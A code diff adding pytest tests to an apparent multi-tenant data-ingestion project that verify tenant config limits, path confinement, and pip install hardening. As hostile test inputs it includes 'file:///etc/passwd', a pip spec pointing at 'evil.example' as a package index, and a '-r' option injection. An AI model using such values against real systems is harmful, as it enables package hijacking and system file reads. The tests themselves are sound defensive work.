@@ -11,6 +11,7 @@ from pydantic import ValidationError
 from dativo_dagster.config.models import Engine, SourceRecipe
 from dativo_dagster.engines.base import EngineStateCodec
 from dativo_dagster.engines.singer import SingerProtocol
+from dativo_dagster.errors import ConfigError
 from dativo_dagster.sources.registry import source_class
 
 
@@ -97,3 +98,47 @@ def test_engine_objects_are_ordinary_assets_and_loading_runs_no_connector(
     assert {graph.get(key).group_name for key in keys} == {"acme"}
     assert graph.asset_check_keys  # the usual checks
     assert not (tmp_path / "connectors").exists()  # no virtualenv built, no connector started
+
+
+def test_a_tenant_sets_only_what_the_recipe_allows_and_paths_stay_in_its_roots(tmp_path: Path) -> None:
+    from dativo_dagster.config.loader import load_plan
+    from tests.integration.engine_harness import singer_project
+
+    objects = [{"name": "items", "options": {"stream": "items"}, "primary_key": ["id"]}]
+
+    def problems(root: Path) -> str:
+        plan = load_plan(root)
+        return " ".join(problem for broken in plan.broken for problem in broken.problems)
+
+    # A setting the recipe does not hand to tenants (where the server is, its certificates).
+    root = singer_project(tmp_path / "a", "shop", objects, connection={"host": "db.other-tenant", "ssl_ca": "/x"})
+    found = problems(root)
+    assert "source.connection.host" in found and "source.connection.ssl_ca" in found
+
+    # A path setting: inside the tenant's data roots, or refused (nested values and file:// URLs too).
+    recipe = {"tenant_settings": ["database", "filter_dbs", "files"], "path_settings": ["files"]}
+    outside = singer_project(
+        tmp_path / "b", "shop", objects, recipe=recipe, connection={"files": [{"path": "file:///etc/passwd"}]}
+    )
+    assert "source.connection.files[0].path" in problems(outside)
+    (tmp_path / "c/tenants/acme/data").mkdir(parents=True)
+    inside = singer_project(
+        tmp_path / "c", "shop", objects, recipe=recipe, connection={"files": [{"path": "tenants/acme/data/x.csv"}]}
+    )
+    assert problems(inside) == ""
+
+
+def test_pip_sees_no_secret_and_takes_no_options(monkeypatch: pytest.MonkeyPatch) -> None:
+    import sys
+
+    from dativo_dagster.engines.venvs import _run, check_pip_url
+
+    with pytest.raises(ValidationError, match="packages only"):
+        _recipe(engine="singer", pip_url="--index-url https://evil.example/simple tap-mysql")
+    with pytest.raises(ConfigError, match="packages only"):
+        check_pip_url("-r /etc/requirements.txt", label="x")
+    assert check_pip_url("tap-mysql==1.17.7 pymysql<2", label="x") == ["tap-mysql==1.17.7", "pymysql<2"]
+    monkeypatch.setenv("ACME_STRIPE_KEY", "sk_live_other_tenant")
+    monkeypatch.setenv("PIP_INDEX_URL", "https://pypi.example/simple")
+    probe = "import os, sys; sys.exit(3 if 'ACME_STRIPE_KEY' in os.environ or 'PIP_INDEX_URL' not in os.environ else 0)"
+    _run([sys.executable, "-c", probe], label="probe", what="run", pip_url="probe")  # raises if the key leaked
